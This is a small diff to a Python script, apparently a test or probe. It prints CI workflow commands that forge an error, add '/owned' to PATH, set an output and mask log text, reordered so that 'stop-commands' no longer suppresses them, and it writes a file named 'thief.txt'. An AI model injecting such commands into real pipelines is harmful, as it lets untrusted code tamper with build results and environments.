@@ -48,7 +48,7 @@ for token in tokens:
         print("comment:", error.code)
 print("tokens:", len(tokens))
 
-for command in ("stop-commands::x", "error::forged", "add-path::/owned", "set-output name=code::0", "add-mask::e"):
+for command in ("error::forged", "add-path::/owned", "set-output name=code::0", "add-mask::e", "stop-commands::x"):
     print(f"::{command}")
 pathlib.Path("thief.txt").write_text("done")
 MORE
